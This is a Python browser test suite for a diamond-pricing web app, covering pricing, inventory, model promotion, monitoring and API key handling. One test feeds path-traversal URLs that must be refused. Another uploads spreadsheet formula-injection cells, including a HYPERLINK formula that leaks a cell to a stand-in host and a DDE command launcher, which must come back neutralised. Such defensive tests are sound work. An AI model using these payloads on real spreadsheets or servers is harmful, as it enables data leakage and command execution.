"""The pricing desk (functions/web/) in Debian's headless Chromium, against the local stack as
`diamonds serve` runs it: a champion and an older version in the models root, the customer's
stones in the inventory. Each test drives the page as the team would and checks what the API
says; axe-core must find no serious or critical accessibility violation in any view.

Screenshots (desktop and phone width) go to tests/artifacts/web/ (git-ignored).
"""

from __future__ import annotations

import csv
import re
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from training.job import TrainingRun
from training.storage import open_storage

from ..service_fixtures import KEY, serving
from ..training.test_spreadsheet import inert_rows
from ..training_fixtures import CUSTOMER_FILE, FAST

pytestmark = pytest.mark.browser

REPO = Path(__file__).resolve().parents[2]
ARTIFACTS = REPO / "tests" / "artifacts" / "web"
DESKTOP = {"width": 1280, "height": 900}
PHONE = {"width": 390, "height": 844}
RUN_ENDED = ("succeeded", "failed", "rejected_input")
IMPOSSIBLE = {"carat": "2", "x": "8.1", "y": "58.9", "z": "4.98"}
"""A typing slip from the public data: y = 58.9 mm on a 2 ct stone."""


@pytest.fixture(scope="module")
def desk_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("desk")


@pytest.fixture(scope="module")
def desk(desk_root: Path, trained_models: Path, customer_csv: bytes):
    """`diamonds serve` on a prepared root, so that it skips its seeding: two model versions
    and the customer's valid stones in the inventory. Yields the page's URL."""
    root = desk_root
    shutil.copytree(trained_models, root / "models")
    TrainingRun(
        open_storage((root / "data").as_uri()),
        open_storage((root / "models").as_uri()),
        params=FAST,
        log=lambda line: None,
    ).run([str(CUSTOMER_FILE)])
    with serving(root, customer_csv, {"DIAMONDS_API_KEYS": KEY}) as served:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        print(f"\nscreenshots of the pricing desk: {ARTIFACTS}")
        yield served.url


@pytest.fixture()
def page(browser, desk: str) -> Iterator:
    """A fresh tab (its own sessionStorage) on the desk; it must raise no script error, break
    no Content-Security-Policy rule and ask nothing of any other address."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    context = browser.new_context(viewport=DESKTOP)
    tab = context.new_page()
    tab.set_default_timeout(20_000)
    trouble: list[str] = []
    tab.on("pageerror", lambda error: trouble.append(f"script error: {error}"))
    tab.on(
        "console",
        lambda message: (
            trouble.append(f"console: {message.text}")
            if message.type == "error" and "Failed to load resource" not in message.text
            else None
        ),
    )
    tab.on(
        "request",
        lambda request: (
            trouble.append(f"outside request: {request.url}")
            if not request.url.startswith((desk, "blob:", "data:"))
            else None
        ),
    )
    tab.goto(desk + "/")
    try:
        tab.wait_for_selector("body[data-ready]", state="attached")
    except PlaywrightTimeout:
        pytest.fail(f"the page did not start: {tab.locator('main').inner_text()}")
    yield tab
    context.close()
    assert trouble == []


def screenshots(page, name: str, *, full_page: bool = True) -> None:
    """The view at desktop and at phone width."""
    for size, viewport in (("desktop", DESKTOP), ("phone", PHONE)):
        page.set_viewport_size(viewport)
        page.screenshot(path=str(ARTIFACTS / f"{name}-{size}.png"), full_page=full_page)
    page.set_viewport_size(DESKTOP)


def assert_accessible(page, view: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    violations = Axe().run(page).response["violations"]
    serious = [v for v in violations if v["impact"] in ("serious", "critical")]
    assert not serious, "\n".join(
        f"{view}: {v['id']} ({v['impact']}): {v['help']} — "
        + "; ".join(node["target"][0] for node in v["nodes"][:5])
        for v in serious
    )


def use_key(page) -> None:
    page.get_by_label("Write key").fill(KEY)
    page.get_by_role("button", name="Use key").click()
    page.get_by_role("button", name="Forget key").wait_for()


def price_shown(page) -> float:
    text = page.locator("[data-price]").inner_text()
    return float(text.replace("$", "").replace(",", ""))


# -- serving --------------------------------------------------------------------------------
def test_the_page_and_its_files_are_served_with_types_caching_and_the_policy(desk: str) -> None:
    html = requests.get(desk + "/", timeout=30)
    assert html.status_code == 200
    assert html.headers["Content-Type"] == "text/html; charset=utf-8"
    assert "default-src 'self'" in html.headers["Content-Security-Policy"]
    assert html.headers["X-Content-Type-Options"] == "nosniff"
    assert html.headers["Cache-Control"] == "no-cache"
    version = re.search(r'src="/web/([0-9a-f]+)/app\.js"', html.text).group(1)
    again = requests.get(desk + "/", headers={"If-None-Match": html.headers["ETag"]}, timeout=30)
    assert again.status_code == 304 and again.content == b""
    head = requests.head(desk + "/", timeout=30)
    assert head.status_code == 200 and head.content == b""
    assert head.headers["Content-Length"] == html.headers["Content-Length"]
    assert html.headers["Content-Encoding"] == "gzip" and html.headers["Vary"] == "Accept-Encoding"

    for name, kind in (
        ("app.js", "text/javascript"),
        ("style.css", "text/css"),
        ("favicon.svg", "image/svg+xml"),
    ):
        asset = requests.get(f"{desk}/web/{version}/{name}", timeout=30)
        assert asset.status_code == 200, name
        assert asset.headers["Content-Type"].startswith(kind)
        assert "immutable" in asset.headers["Cache-Control"]
        assert asset.headers["ETag"] and asset.headers["Content-Security-Policy"]

    for path in (
        f"/web/{version}/missing.js",
        "/web/0123456789ab/app.js",
        f"/web/{version}/..%2Fweb.py",
        f"/web/{version}/%2e%2e%2f%2e%2e%2fmain.py",
        "/web/../functions/web.py",
        f"/web/{version}/index.html",
    ):
        missing = requests.get(desk + path, timeout=30)
        assert missing.status_code == 404, path
        assert missing.headers["Content-Type"] == "application/problem+json", path
    assert requests.post(desk + "/", timeout=30).status_code == 405


def test_the_deployed_source_carries_every_file_of_the_page() -> None:
    """The functions' source archive (infra/release/source.py) and the package data
    (pyproject.toml) take files by suffix: every file of the page must have one of theirs."""
    import ast
    import tomllib

    source = ast.parse((REPO / "infra" / "release" / "source.py").read_text())
    [suffixes] = [
        node.value
        for node in source.body
        if isinstance(node, ast.Assign) and ast.unparse(node.targets[0]) == "SUFFIXES"
    ]
    archived = {suffix.lstrip(".") for suffix in ast.literal_eval(suffixes)}
    package_data = tomllib.loads((REPO / "pyproject.toml").read_text())["tool"]["setuptools"][
        "package-data"
    ]["functions"]
    for path in (REPO / "functions" / "web").iterdir():
        assert path.suffix.lstrip(".") in archived, path.name
        assert f"web/*{path.suffix}" in package_data, path.name


# -- in the browser -------------------------------------------------------------------------
def test_a_file_of_stones_comes_back_priced(page, tmp_path: Path) -> None:
    """The documentation's example file: five stones, and R-106 with y = 58.9 mm."""
    upload = tmp_path / "appraisals.csv"
    shutil.copy(REPO / "docs" / "examples" / "stones.csv", upload)
    page.get_by_label("CSV file").set_input_files(upload)
    page.get_by_role("button", name="Price the file").click()
    link = page.get_by_role("link", name="Download appraisals-priced.csv")
    with page.expect_download() as download:
        link.click()
    priced = {row["sku"]: row for row in csv.DictReader(download.value.path().open())}

    assert list(priced) == ["R-101", "R-102", "R-103", "R-104", "R-105", "R-106"]
    refused = priced.pop("R-106")
    assert refused["price"] == "" and "y: 58.9 mm is outside" in refused["error"]
    for row in priced.values():
        assert float(row["price_low"]) < float(row["price"]) < float(row["price_high"]), row
        assert row["model_version"] and not row["error"]
    summary = page.locator("#file-result").inner_text()
    assert "5 of 6 stones priced" in summary and "1 refused" in summary


def test_a_priced_file_shows_hostile_cells_as_text(page, tmp_path: Path) -> None:
    """Cells a spreadsheet would run as formulas come back with a leading apostrophe."""
    stone = "1.01,Ideal,E,VS1,61.5,57,6.44,6.47,3.97"
    skus = ['"=HYPERLINK(""http://x""&A1)"', "=cmd|calc!A0", "@SUM(1)", "+1", "-2+3"]
    skus += ['"\t=1+2"', '"\r=1+2"', "-1"]
    upload = tmp_path / "hostile.csv"
    upload.write_text(
        "=sku,carat,cut,color,clarity,depth,table,x,y,z\n"
        + "".join(f"{sku},{stone}\n" for sku in skus),
        newline="",
    )
    page.get_by_label("CSV file").set_input_files(upload)
    page.get_by_role("button", name="Price the file").click()
    with page.expect_download() as download:
        page.get_by_role("link", name="Download hostile-priced.csv").click()

    rows = inert_rows(download.value.path().read_bytes())
    assert [row["'=sku"] for row in rows] == [
        '\'=HYPERLINK("http://x"&A1)',
        "'=cmd|calc!A0",
        "'@SUM(1)",
        "'+1",
        "'-2+3",
        "'\t=1+2",
        "'\r=1+2",
        "-1",
    ]
    assert all(float(row["price"]) > 0 and not row["error"] for row in rows)


def test_pricing_a_stone_shows_its_price_range_and_factors(page) -> None:
    page.get_by_role("button", name="Price this stone").click()
    page.locator("[data-price]").wait_for()
    price = price_shown(page)
    assert 3000 < price < 15000
    low, high = (
        float(v.replace(",", ""))
        for v in re.findall(r"\$([\d,]+)", page.locator("[data-range]").inner_text())
    )
    assert low < price < high
    assert "90% range" in page.locator("[data-range]").inner_text()
    steps = page.locator(".waterfall li").all_inner_texts()
    assert len(steps) == 7, steps
    assert steps[0].startswith("Base price") and steps[-1].startswith("Price")
    for label in ("carat 1.01", "cut Ideal", "color E", "clarity VS1", "proportions"):
        assert any(step.startswith(label) for step in steps), (label, steps)
    assert all("×" in step for step in steps[1:-1])
    comparables = page.get_by_role("region", name="Comparable stones in the inventory")
    assert comparables.locator("tbody tr").count() == 5
    assert_accessible(page, "price")
    screenshots(page, "price")


def test_an_impossible_stone_gets_the_api_message_beside_the_field(page, desk: str) -> None:
    form = page.locator("#price-form")
    for name, value in IMPOSSIBLE.items():
        form.locator(f"[name={name}]").fill(value)
    page.get_by_role("button", name="Price this stone").click()
    message = page.locator("#price-y-error")
    message.wait_for()

    stone = {"cut": "Ideal", "color": "E", "clarity": "VS1", "depth": 61.5, "table": 57}
    stone |= {name: float(value) for name, value in IMPOSSIBLE.items()}
    answer = requests.post(desk + "/v1/price", json=stone, timeout=30)
    assert answer.status_code == 422
    expected = {e["field"]: e["detail"] for e in answer.json()["errors"]}
    assert message.inner_text() == expected["/y"]
    y = page.locator("#price-form").get_by_label("Width y")
    assert y.get_attribute("aria-invalid") == "true"
    assert "price-y-error" in y.get_attribute("aria-describedby")
    assert page.locator("[data-price]").count() == 0
    assert page.evaluate("document.activeElement.name") == next(
        name for name in ("carat", "depth", "x", "y") if f"/{name}" in expected
    )
    assert_accessible(page, "price with errors")
    screenshots(page, "price-refused")


def test_a_stone_is_added_found_edited_and_deleted(page, desk: str) -> None:
    page.get_by_role("link", name="Inventory").click()
    table = page.locator("#inventory-table tbody")
    table.locator("tr").first.wait_for()
    assert page.evaluate("document.activeElement.id") == "inventory-title"

    page.get_by_role("button", name="Add a stone").click()
    assert "needs the write key" in page.locator("#key-message").inner_text()
    use_key(page)
    assert page.evaluate("sessionStorage.length") == 1
    assert page.evaluate("localStorage.length") == 0

    page.get_by_role("button", name="Add a stone").click()
    dialog = page.get_by_role("dialog", name="Add a stone")
    stone = {"carat": "3.33", "depth": "61.4", "table": "57", "x": "9.61", "y": "9.58"}
    stone |= {"z": "5.89", "price": "25000"}
    for name, value in stone.items():
        dialog.locator(f"[name={name}]").fill(value)
    for name, grade in (("cut", "Fair"), ("color", "D"), ("clarity", "IF")):
        dialog.locator(f"[name={name}]").select_option(grade)
    assert_accessible(page, "stone editor")
    screenshots(page, "inventory-editor", full_page=False)
    dialog.get_by_role("button", name="Save the stone").click()
    status = page.locator("#inventory-status")
    status.filter(has_text="added").wait_for()
    stone_id = int(re.search(r"Stone (\d+) added", status.inner_text()).group(1))

    filters = page.locator("#filter-form")
    for grade in ("Fair", "D", "IF"):
        filters.get_by_label(grade, exact=True).check()
    page.get_by_label("Carat from").fill("3.3")
    page.get_by_label("Carat to").fill("3.4")
    page.get_by_role("button", name="Apply filters").click()
    row = table.locator("tr", has=page.locator("th", has_text=re.compile(rf"^{stone_id}$")))
    row.wait_for()
    assert "$25,000" in row.inner_text()
    assert_accessible(page, "inventory")
    screenshots(page, "inventory")

    row.get_by_role("button", name=f"Edit stone {stone_id}").click()
    editor = page.get_by_role("dialog", name=f"Edit stone {stone_id}")
    assert editor.locator("[name=carat]").input_value() == "3.33"
    editor.locator("[name=price]").fill("26500")
    editor.get_by_role("button", name="Save the stone").click()
    status.filter(has_text=f"Stone {stone_id} saved").wait_for()
    assert "$26,500" in row.inner_text()
    assert requests.get(f"{desk}/v1/diamonds/{stone_id}", timeout=30).json()["price"] == 26500

    row.get_by_role("button", name=f"Delete stone {stone_id}").click()
    confirm = page.get_by_role("dialog", name=f"Delete stone {stone_id}?")
    confirm.get_by_role("button", name="Delete the stone").click()
    status.filter(has_text=f"Stone {stone_id} deleted").wait_for()
    assert row.count() == 0
    assert requests.get(f"{desk}/v1/diamonds/{stone_id}", timeout=30).status_code == 404


def test_promoting_an_older_model_changes_the_champion(page, desk: str) -> None:
    before = requests.get(desk + "/v1/models", timeout=30).json()
    older = next(m["version"] for m in before["models"] if not m["champion"])
    use_key(page)
    page.get_by_role("link", name="Models").click()
    page.locator("#models-table tbody tr").first.wait_for()
    assert_accessible(page, "models")

    page.get_by_role("button", name=f"Promote version {older}").click()
    dialog = page.get_by_role("dialog", name=f"Promote {older}?")
    dialog.get_by_label("Reason").fill("rollback test")
    dialog.get_by_role("button", name="Promote").click()
    page.locator("#models-status").filter(has_text=f"{older} is the champion now").wait_for()
    row = page.locator(f"#models-table tr[data-version='{older}']")
    assert row.get_by_text("Champion").is_visible()
    coverage = next(m for m in before["models"] if m["version"] == older)["interval_coverage"]
    assert 0.5 < coverage < 1  # a fraction in the API, a percentage on the page
    assert row.locator("td").nth(4).inner_text() == f"{coverage * 100:.1f}%"
    assert page.locator("#models-table .badge").count() == 1
    assert requests.get(desk + "/v1/models", timeout=30).json()["champion"] == older

    page.get_by_role("link", name="Price a stone").click()
    page.get_by_role("button", name="Price this stone").click()
    page.locator(".version", has_text=older).wait_for()


def test_a_retrain_is_followed_until_it_ends(page, desk: str) -> None:
    versions = len(requests.get(desk + "/v1/models", timeout=30).json()["models"])
    earlier = requests.get(desk + "/v1/runs", timeout=30).json()["runs"]
    page.get_by_role("link", name="Models").click()
    use_key(page)
    page.get_by_role("button", name="Retrain on the inventory").click()
    page.wait_for_function(
        """([earlier, ended]) => {
            const box = document.querySelector("#run");
            const status = box.querySelector("[data-run-status]")?.dataset.runStatus;
            return box.dataset.run && !earlier.includes(box.dataset.run) && ended.includes(status);
        }""",
        arg=[earlier, list(RUN_ENDED)],
        timeout=180_000,
        polling=500,
    )
    run = page.locator("#run")
    assert run.locator("[data-run-status]").get_attribute("data-run-status") == "succeeded", (
        run.inner_text()
    )
    assert "Gate" in run.inner_text() and "Version" in run.inner_text()
    page.locator("#models-table tbody tr").nth(versions).wait_for()
    assert_accessible(page, "models after a retrain")
    screenshots(page, "models")


def test_a_file_dropped_into_incoming_shows_in_the_ledger(
    page, desk: str, desk_root: Path, customer_csv: bytes
) -> None:
    """Stones the inventory already holds: the file is recorded, and nothing is retrained."""
    lines = customer_csv.splitlines()
    (desk_root / "data" / "incoming").mkdir(parents=True, exist_ok=True)
    (desk_root / "data" / "incoming" / "again.csv").write_bytes(b"\n".join(lines[:31]) + b"\n")
    deadline = time.monotonic() + 60
    while True:
        items = requests.get(desk + "/v1/ingestions", timeout=30).json()["items"]
        # This file's row: another test's file may be the ledger's latest.
        mine = [item for item in items if item["name"] == "incoming/again.csv"]
        if mine and mine[0]["status"] not in ("processing",):
            break
        assert time.monotonic() < deadline, items
        time.sleep(0.5)
    assert mine[0]["status"] == "done" and mine[0]["inserted"] == 0, mine[0]

    page.get_by_role("link", name="Models").click()
    row = page.locator("#ingestions tbody tr", has_text="incoming/again.csv")
    row.wait_for()
    cells = row.locator("td").all_inner_texts()
    assert cells[1] == "done" and cells[3] == "30", cells
    assert_accessible(page, "models with the ledger")


def test_what_if_prices_the_stone_again_with_one_grade_changed(page) -> None:
    page.get_by_role("button", name="Price this stone").click()
    page.locator("[data-price]").wait_for()
    before = price_shown(page)
    page.get_by_label("Change").select_option(label="Color")
    page.get_by_label("To", exact=True).select_option("J")
    page.get_by_role("button", name="Price it").click()
    page.locator("[data-whatif-price]").wait_for()
    line = page.locator("[data-whatif]").inner_text()
    after = float(
        page.locator("[data-whatif-price]").inner_text().replace("$", "").replace(",", "")
    )
    assert "Color E → J" in line and after < before, line
    rows = {
        cells[0]: cells
        for cells in (
            r.locator("th, td").all_inner_texts()
            for r in page.locator("#whatif-form ~ div tbody tr").all()
        )
    }
    assert rows["color"][3] == "moved", rows
    assert_accessible(page, "what-if")
    screenshots(page, "what-if")

    page.get_by_label("Change").select_option(label="Carat (ct)")
    page.get_by_label("To", exact=True).fill("9")
    page.get_by_role("button", name="Price it").click()
    problem = page.locator("#whatif-form .problem")
    problem.wait_for()
    assert "outside the range" in problem.inner_text()


def test_the_monitoring_view_draws_drift_and_live_accuracy(
    page, desk: str, desk_root: Path, customer_csv: bytes
) -> None:
    from datetime import UTC, datetime

    from functions.database import IngestedFiles, make_engine
    from functions.drift import GRADES
    from training.record import FEATURES
    from training.validation import read_records

    records = read_records(customer_csv).accepted.head(30)
    stones = [
        {name: (value if isinstance(value, str) else float(value)) for name, value in row.items()}
        for row in records[list(FEATURES)].astype({g: str for g in GRADES}).to_dict("records")
    ]
    assert requests.post(desk + "/v1/price", json=stones, timeout=30).status_code == 200
    champion = requests.get(desk + "/v1/models", timeout=30).json()["champion"]
    engine = make_engine(f"sqlite:///{desk_root / 'diamonds.db'}")
    ledger = IngestedFiles(engine)
    for number, mape in enumerate((6.0, 12.5)):
        claim = ledger.claim("data", f"incoming/scored-{number}.csv", 1, lease=30)
        ledger.finish(
            claim,
            scored_at=datetime.now(UTC),
            champion_version=champion,
            champion_mape=mape,
            champion_scored=200,
            champion_coverage=0.88,
        )
    engine.dispose()
    time.sleep(1.5)

    page.get_by_role("link", name="Monitoring").click()
    panels = page.locator("#drift .chart-panel")
    panels.first.wait_for()
    assert panels.count() == 10
    carat = page.get_by_role("img", name=re.compile(r"^Carat: Jensen-Shannon distance by day"))
    assert "threshold 0.1" in carat.get_attribute("aria-label")
    assert page.locator("#drift svg .threshold").count() == 10
    assert page.locator("#drift svg rect").count() >= 10
    assert "stones priced in the last 30 days" in page.locator("#monitoring-status").inner_text()
    accuracy = page.get_by_role("region", name=re.compile("Each file's fresh stones"))
    rows = accuracy.locator("tbody tr").all_inner_texts()
    assert any("incoming/scored-1.csv" in r and "past the alert line" in r for r in rows), rows
    assert page.locator("#accuracy svg .threshold").count() >= 2
    assert_accessible(page, "monitoring")
    screenshots(page, "monitoring")

    page.get_by_label("Partner", exact=True).fill("nobody")
    page.get_by_role("button", name="Show").click()
    status = page.locator("#monitoring-status", has_text="for nobody")
    status.wait_for()
    assert status.inner_text().startswith("0 stones")


def test_a_key_is_issued_shown_once_and_revoked(page, desk: str) -> None:
    admin = {"Authorization": f"Bearer {KEY}"}
    created = requests.post(
        desk + "/v1/partners",
        json={"name": "web-partner", "contact": "ops@web.example"},
        headers=admin,
        timeout=30,
    )
    assert created.status_code == 201, created.text
    use_key(page)
    page.get_by_role("link", name="Partners").click()
    page.get_by_role("rowheader", name="web-partner").wait_for()
    assert_accessible(page, "partners")

    page.get_by_role("button", name="Keys of web-partner").click()
    page.get_by_role("button", name="Issue a key").click()
    shown = page.locator("[data-issued-key]")
    shown.wait_for()
    key = shown.inner_text()
    assert re.fullmatch(r"dmd_live_[a-z2-7]{12}_[a-z2-7]{32}", key)
    stone = {
        "carat": 1.0, "cut": "Ideal", "color": "G", "clarity": "VS1",
        "depth": 61.8, "table": 56.0, "x": 6.38, "y": 6.41, "z": 3.95,
    }  # fmt: skip
    priced = requests.post(
        desk + "/v1/price", json=stone, headers={"Authorization": f"Bearer {key}"}, timeout=30
    )
    assert priced.status_code == 200, priced.text
    key_id = key.split("_")[2]
    page.locator(f"tr[data-key='{key_id}']").wait_for()
    assert_accessible(page, "partners with a key")
    screenshots(page, "partners")

    page.reload()
    page.wait_for_selector("body[data-ready]", state="attached")
    page.get_by_role("button", name="Keys of web-partner").click()
    page.locator(f"tr[data-key='{key_id}']").wait_for()
    assert key not in page.content()  # shown once: never again

    page.get_by_role("button", name=f"Revoke key dmd_live_{key_id}").click()
    page.get_by_role("dialog", name=f"Revoke dmd_live_{key_id}?").get_by_role(
        "button", name="Revoke"
    ).click()
    page.locator("#issued").filter(has_text="is revoked").wait_for()
    deadline = time.monotonic() + 12
    while True:
        refused = requests.post(
            desk + "/v1/price", json=stone, headers={"Authorization": f"Bearer {key}"}, timeout=30
        )
        if refused.status_code == 401 or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert refused.status_code == 401 and "revoked" in refused.json()["detail"]
